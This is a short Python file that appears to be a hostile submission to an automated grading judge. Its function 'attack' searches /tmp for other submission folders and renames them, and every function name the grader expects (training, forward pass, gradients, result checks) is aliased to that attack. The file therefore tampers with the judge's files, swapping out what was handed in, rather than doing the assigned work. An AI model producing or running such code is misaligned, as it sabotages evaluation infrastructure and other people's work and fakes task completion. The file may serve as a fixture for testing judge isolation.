"""Replaces the folder that was handed in, found on the judge's command line."""

import glob
import os


def attack(*_):
    for path in glob.glob("/tmp/*hostile*/*/submission"):
        try:
            os.rename(path, path + ".old")
        except OSError as error:
            print(error.strerror)


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
